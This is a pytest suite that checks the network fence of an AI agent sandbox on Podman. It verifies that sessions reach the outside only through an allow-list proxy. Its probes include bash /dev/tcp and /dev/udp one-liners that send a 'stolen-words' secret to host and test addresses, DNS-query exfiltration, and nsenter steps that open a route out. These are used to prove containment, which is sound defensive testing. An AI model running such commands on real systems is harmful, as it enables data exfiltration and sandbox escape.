"""No byte leaves a session on Podman but through its proxy: judged at the sinks, each with a control that leaks."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from laptop import Laptop
from podman_machine import podman
from waiting import eventually
from world import zone
from world.client import World

pytestmark = pytest.mark.podman

SECRET = "stolen-words"


@pytest.fixture(scope="module")
def session(laptop: Laptop) -> str:
    """A session whose list holds one host of the fake internet."""
    World().seen()  # it has to be up: a fake internet that is not there would prove anything
    return laptop.start(laptop.workspace("project"), "--allow", "allowed.test", "--timeout", "250")


@pytest.fixture
def world() -> World:
    return World()


class Sink:
    """A listener on every address of this machine, which counts what comes."""

    def __init__(self) -> None:
        self.got = 0
        self._tcp = socket.create_server(("0.0.0.0", 0), family=socket.AF_INET)
        self._tcp6 = socket.create_server(("::", 0), family=socket.AF_INET6)
        self.port, self.port6 = self._tcp.getsockname()[1], self._tcp6.getsockname()[1]
        for one in (self._tcp, self._tcp6):
            threading.Thread(target=self._serve, args=(one,), daemon=True).start()

    def _serve(self, listener: socket.socket) -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            self.got += 1
            connection.close()

    def close(self) -> None:
        for one in (self._tcp, self._tcp6):
            one.shutdown(socket.SHUT_RDWR)
            one.close()


@contextmanager
def sink() -> Iterator[Sink]:
    made = Sink()
    try:
        yield made
    finally:
        made.close()


def own_addresses() -> list[str]:
    """Every IPv4 address of this machine: of its networks, of its bridges, of podman's gateway."""
    listed = json.loads(subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True, check=True).stdout)
    found = [a["local"] for link in listed for a in link["addr_info"] if a["family"] == "inet"]
    return [one for one in found if not one.startswith("127.")]


def knocks(addresses: list[str], port: int) -> str:
    """A shell command that tries to connect to each address, with a limit of a second for all."""
    tries = " ".join(addresses)
    return f'for a in {tries}; do timeout 1 bash -c "echo {SECRET} > /dev/tcp/$a/{port}" 2>/dev/null & done; wait; true'


@contextmanager
def in_the_open(laptop: Laptop, *options: str) -> Iterator[str]:
    """A container of the agent's image on an ordinary network of podman's: the control, from which things leak."""
    image = podman("ps", "--all", "--filter", "name=-agent", "--format", "{{.Image}}").splitlines()[0]
    words = ("run", "--detach", "--rm", *options, image, "sleep", "120")
    container = podman(*words)
    try:
        yield container
    finally:
        podman("rm", "--force", "--time", "0", container, check=False)


def test_no_service_of_this_machine_can_be_reached_under_any_of_its_addresses(laptop: Laptop, session: str) -> None:
    with sink() as one:
        with in_the_open(laptop) as control:
            podman("exec", control, "bash", "-c", knocks(own_addresses(), one.port))
        assert one.got > 0, "the control could not reach it either"
        before = one.got
        laptop.inside(session, knocks([*own_addresses(), "127.0.0.1", "10.0.2.2", "169.254.1.2"], one.port))
        assert one.got == before


def test_the_session_has_no_device_no_route_and_no_neighbour_but_its_own_loopback(laptop: Laptop, session: str) -> None:
    assert laptop.inside(session, "ls /sys/class/net").split() == ["lo"]
    routes = laptop.inside(session, "tail -n +2 /proc/net/route; grep -v ' lo$' /proc/net/ipv6_route || true")
    assert routes.strip() == ""
    assert laptop.inside(session, "cat /etc/resolv.conf; grep -v localhost /etc/hosts || true").strip() == ""


def test_names_are_not_looked_up_not_even_by_asking_the_resolver_itself(
    laptop: Laptop, session: str, world: World
) -> None:
    ask = "getent hosts {0}.forbidden.test; timeout 2 bash -c 'printf x > /dev/udp/{1}/53'; true"
    with in_the_open(laptop) as control:
        podman("exec", control, "bash", "-c", ask.format("control-" + SECRET, zone.RESOLVER))
    assert world.queries(f"control-{SECRET}.forbidden.test"), "the control did not get out either"
    before = world.seen().opened
    laptop.inside(session, ask.format(SECRET, zone.RESOLVER))
    assert world.queries(f"{SECRET}.forbidden.test") == []
    assert {key for key in world.seen().opened if key.split()[1] == zone.FORBIDDEN_HOST} <= set(before)


def test_the_proxy_lets_through_what_is_on_the_list_and_nothing_else(
    laptop: Laptop, session: str, world: World
) -> None:
    curl = "curl -sk -o /dev/null -m 10 -w '%{{http_connect}}' https://{}/ || true"
    hits = world.hits("forbidden.test")
    assert laptop.inside(session, curl.format("allowed.test")) == "200"
    assert laptop.inside(session, curl.format("forbidden.test")) == "403"
    assert laptop.inside(session, curl.format(zone.LITERAL)) == "403"
    assert laptop.inside(session, curl.format("private.test")) == "403"
    assert world.hits("forbidden.test") == hits


def test_without_the_proxy_no_address_of_the_world_is_reached_by_any_protocol(
    laptop: Laptop, session: str, world: World
) -> None:
    knock = (
        f"timeout 2 bash -c 'echo {SECRET} > /dev/tcp/{zone.OTHER}/443';"
        f" timeout 2 bash -c 'echo {SECRET} > /dev/udp/{zone.OTHER}/443'; ping -c1 -W1 {zone.OTHER}; true"
    )
    before = world.hits(zone.OTHER)
    laptop.inside(session, f"({knock}) >/dev/null 2>&1")
    assert world.hits(zone.OTHER) == before
    with in_the_open(laptop) as control:
        podman("exec", control, "bash", "-c", f"({knock}) >/dev/null 2>&1")
    assert world.hits(zone.OTHER) > before, "the control did not get out either"


def test_other_containers_of_this_machine_cannot_be_reached(laptop: Laptop, session: str) -> None:
    with in_the_open(laptop) as other:
        address = podman("inspect", "-f", "{{.NetworkSettings.IPAddress}}", other)
        # What answers a knock is the kernel: where it says "refused", packets go there and back.
        probe = f"timeout 2 bash -c 'echo > /dev/tcp/{address}/9' 2>&1; true"
        with in_the_open(laptop) as control:
            assert "refused" in podman("exec", control, "bash", "-c", probe), "the control does not reach it either"
        assert "unreachable" in laptop.inside(session, probe)


def formers(session: str) -> list[dict[str, str]]:
    """The proxies that the session had before."""
    found = json.loads(podman("ps", "--all", "--filter", f"name=paude-{session}-proxy-was-", "--format", "json"))
    return list(found)


def test_a_host_more_disturbs_no_tunnel_and_forgets_no_refusal(laptop: Laptop, session: str, world: World) -> None:
    blocked = lambda: {  # noqa: E731
        one["host"] for one in json.loads(laptop.paude("blocked", session, "-o", "json").stdout)["refused"]
    }
    laptop.inside(session, "curl -sm 5 https://early.forbidden.test/; true")
    assert "early.forbidden.test" in blocked()
    urls, told = f"https://allowed.test/{session}/[1-100000]", "-o /dev/null -w '%{stderr}%{num_connects}\\n'"
    laptop.inside(
        session,
        f"setsid curl -sSk -m 600 --rate 600/m {told} {urls} > /tmp/connects 2>&1 < /dev/null & echo $! > /tmp/pid",
    )
    arrived = lambda: sum(f"/{session}/" in one["path"] for one in world.seen().requests)  # noqa: E731
    eventually(lambda: arrived() > 2)

    laptop.paude("allow", "other.test", session)

    before = arrived()
    eventually(lambda: arrived() > before + 5, what="calls through the tunnel that was open")
    assert sum(map(int, laptop.inside(session, "cat /tmp/connects").split())) == 1, "it was made once"
    assert "early.forbidden.test" in blocked()
    (former,) = formers(session)
    assert former["State"] == "running"
    laptop.inside(session, "kill $(cat /tmp/pid)")
    eventually(lambda: formers(session)[0]["State"] == "exited", what="the end of a proxy that has nothing left to do")
    assert "early.forbidden.test" in blocked()
    own = (f"paude-{session}-{part}" for part in ("proxy", "net", "gate", "agent"))
    logs = [json.loads(podman("inspect", one))[0]["HostConfig"]["LogConfig"] for one in own]
    assert {(one["Type"], one["Size"]) for one in logs} == {("k8s-file", "8MB")}, "no log grows for ever"


def test_the_fence_parks_an_agent_whose_network_gets_a_way_out(laptop: Laptop, session: str) -> None:
    """The control of the fence itself: a device put into the session's network by hand."""
    network = json.loads(podman("inspect", f"paude-{session}-net"))[0]
    proxy = json.loads(podman("inspect", f"paude-{session}-proxy"))[0]["NetworkSettings"]["Networks"]["podman"]
    pid, gateway = network["State"]["Pid"], proxy["Gateway"]
    inside = ["nsenter", "-t", str(pid), "-n"]
    host, end = f"pw{pid % 100000}h", f"pw{pid % 100000}c"
    address = proxy["IPAddress"].rsplit(".", 1)[0] + ".250"
    steps = [
        ["ip", "link", "add", host, "type", "veth", "peer", "name", end, "netns", str(pid)],
        ["ip", "link", "set", host, "master", "cni-podman0", "up"],
        [*inside, "ip", "addr", "add", f"{address}/16", "dev", end],
        [*inside, "ip", "link", "set", end, "up"],
        [*inside, "ip", "route", "add", zone.BLOCK, "via", gateway],
    ]

    def state() -> str:
        return str(json.loads(laptop.paude("status", session, "-o", "json").stdout)["state"])

    try:
        for step in steps:
            subprocess.run(step, check=True, capture_output=True)
        done = laptop.paude("verify", session, "-o", "json", code=3)
        opened = {probe["name"] for probe in json.loads(done.stdout)["probes"] if probe["result"] == "open"}
        assert "canary" in opened
        # The gate was told to look for itself, which takes it a second.
        eventually(lambda: state() in {"parked", "open", "ended"}, 10, "that the agent is parked")
    finally:
        subprocess.run(["ip", "link", "delete", host], capture_output=True)


def listening(link: str, one: Sink) -> list[tuple[str, int]]:
    """Where a container beside the bridge `link` would find the sink on it."""
    listed = json.loads(subprocess.run(["ip", "-j", "addr", "show", link], capture_output=True, text=True).stdout)
    addresses = [a["local"] for a in listed[0]["addr_info"]]
    return [(a, one.port) if "." in a else (f"{a}%eth0", one.port6) for a in addresses]


def test_an_internal_network_of_podmans_own_would_not_have_held(laptop: Laptop, session: str) -> None:
    """Why the network is none at all: on an internal one, this machine's services are one link-local address away."""
    name = "paude-test-internal"
    podman("network", "create", "--internal", "--disable-dns", name, check=False)
    try:
        with sink() as one, in_the_open(laptop, "--network", name) as control:
            link = json.loads(podman("network", "inspect", name))[0]["network_interface"]
            # A bridge has its link-local address a moment after its first container, and cannot use it before others
            # were asked for it (RFC 4862, 5.4).
            end = time.monotonic() + 20
            while not one.got and time.monotonic() < end:
                for address, port in listening(link, one):
                    knock = f"echo > /dev/tcp/{address}/{port}"
                    podman("exec", control, "timeout", "2", "bash", "-c", knock, check=False)
            assert one.got > 0
    finally:
        podman("network", "rm", "--force", name, check=False)
